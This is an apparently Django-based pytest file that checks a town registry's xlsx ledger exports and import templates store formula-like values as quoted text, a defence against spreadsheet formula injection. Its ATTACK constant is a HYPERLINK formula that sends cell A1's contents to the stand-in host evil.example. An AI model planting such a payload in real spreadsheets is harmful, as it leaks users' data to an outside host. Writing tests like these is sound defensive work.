"""Every xlsx export writes strings as text: a value starting with = + - @ (or tab/CR) is never a formula
(issue 8.5). One test per export; the rejected-rows download of imports has its own in the registry tests."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from zhenwu.registry.exporting import ledger_export, template_workbook
from zhenwu.registry.tests import factories as f
from zhenwu.sheets import FORMULA_TRIGGERS, safe_row
from zhenwu.testing import PASSWORD, local

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
RISKY = [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_text(cells: list, expected: list[str]) -> None:
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected:
        cell = by_value[value.replace("\r", "\n")]  # XML reads a stored CR back as LF
        assert cell.data_type == "s" and cell.quotePrefix, (value, cell.data_type)
    assert not [c for c in cells if c.data_type == "f"]


def test_the_helper_leaves_plain_values_alone():
    row = safe_row(None, ["李明", 5, None, "11010519491231002X"])
    assert row == ["李明", 5, None, "11010519491231002X"]
    assert set(FORMULA_TRIGGERS) >= {"=", "+", "-", "@", "\t", "\r"}


def test_the_registry_ledger_writes_place_names_as_text(personas, town):
    for name in RISKY:
        f.place(town.grid_a, name=name, address=name)
    result = ledger_export(user=personas.admin, kind="places", params={}, unmasked=True)
    _assert_text(_cells(result.content), RISKY)


def test_the_masked_resident_ledger_keeps_a_formula_like_name_as_text(personas, town):
    f.resident(town.grid_a, name="=1+1")
    result = ledger_export(user=personas.town_staff, kind="residents", params={})
    _assert_text(_cells(result.content), ["=***"])


def test_the_import_template_has_no_formula():
    for kind in ("residents", "households", "enterprises", "places", "cameras"):
        assert not [c for c in _cells(template_workbook(kind).content) if c.data_type == "f"]


def test_the_supervision_ledger_writes_item_names_as_text(client, town):
    from zhenwu.services.tests.factories import build_hall, make_item
    from zhenwu.services.tests.supervision_factories import shaped, supervisor

    hall = build_hall(town)
    make_item(name=ATTACK, department="@民政")
    shaped(hall, filed=local(2026, 3, 2, 9), due=local(2026, 3, 5, 23, 59), decided=local(2026, 3, 4, 10))
    user = supervisor(town)
    assert client.login(username=user.username, password=PASSWORD)
    response = client.get("/services/supervision/ledger.xlsx", {"from": "2026-03-01", "to": "2026-03-31"})
    assert response.status_code == 200
    _assert_text(_cells(response.content), [ATTACK, "@民政"])
